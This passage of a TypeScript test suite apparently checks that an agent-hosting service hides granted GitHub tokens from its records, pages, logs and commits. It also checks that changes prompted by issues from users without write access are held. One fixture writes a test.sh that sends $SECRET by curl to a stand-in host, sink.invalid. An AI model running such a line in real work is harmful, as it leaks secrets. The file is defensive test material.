        seen: `${lines.length} of ${secret.length - 1} lines redacted`,
        control: { worked: texts.join('').includes(secret), how: 'what the host sent, joined, holds it' },
      };
    },
  }),
);

const granted: Case = {
  row: 44,
  name: 'tokens that the host was given, in what it reports and hands over',
  attempt: 'a host puts its read token, plain, in a URL and in base64, in events, title and body',
  expected: 'not in the record, on GitHub, on the page or in the log',
  async run(target) {
    const held = await target.hold('told');
    const read = await target.grant(held);
    if (read.grant !== 'repository_read') throw new Error('another grant');
    const { token } = read;
    const forms = [token, encodeURIComponent(token), Buffer.from(`x-access-token:${token}`).toString('base64')];
    const text = `https://x-access-token:${token}@forge.test/x.git\nAuthorization: Basic ${forms[2]}\n${token}\n`;
    const at = new Date().toISOString();
    await target.call('events', held.token, {
      events: [
        { seq: 0, at, type: 'output', text },
        { seq: 1, at, type: 'agent.said', turn: 1, text },
      ],
    });
    const outcome = await target.handOver(held, target.change(held, { 'x.txt': 'x\n' }), `Title ${token}`);
    const places = {
      record: JSON.stringify(outcome.record.events),
      github: JSON.stringify([outcome.state.issues, outcome.state.checkRuns]),
      page: await target.way.page(outcome),
      log: await target.way.log(),
      commit: target.git(held, 'log', '-1', '--format=%B', outcome.end.traces.commit ?? 'HEAD'),
    };
    const holding = Object.entries(places).filter(([, content]) => forms.some((form) => content.includes(form)));
    return {
      held: holding.length === 0 && outcome.end.task.state === 'ready',
      seen: `${outcome.end.task.state}; found in: ${holding.map(([place]) => place).join(', ') || 'nothing'}`,
      control: { worked: outcome.state.tokens.some((known) => known.token === token), how: 'it is a token that GitHub made' },
    };
  },
};

// ── Row 56: words of people without write access ────────────────────────────────────────────────────────────────────

const OUTSIDER = 'outsider';
const outside = ([undefined, 'read', 'triage'] as const).map(
  (role): Case => ({
    row: 56,
    name: `an issue by somebody with ${role ?? 'no'} permission, labelled by somebody who may write`,
    attempt: 'a verified change that an outsider’s words led to is to be published into the owner’s CI',
    expected: 'held: no branch, no pull request; the same by somebody who may write is published',
    async run(target) {
      await target.forge.createUser(OUTSIDER);
      const at = await target.openIssue('outside', {
        as: OUTSIDER,
        ...(role && { repository: { collaborators: { [OUTSIDER]: role } } }),
      });
      await target.way.label(at, HUMAN);
      const held = await target.claimed(await target.way.follow(at));
      const outcome = await target.handOver(held, target.change(held, { 'test.sh': 'curl https://sink.invalid/?$SECRET\n' }));
      const { held: nothing, seen } = unpublished(outcome, /outside text.*outsider/s);
      return { held: nothing && outcome.end.task.state === 'held', seen, control: await honest(target) };
    },
  }),
);

export const CASES: readonly Case[] = [
  ...ofHosts,
  deleted,
  scope,
  ...exits,
  ...deliveries,
  ...strangers,
  ...names,
  ...outside,
  ...RULE_CASES,
  ...splits,
  granted,
  expiring,
];
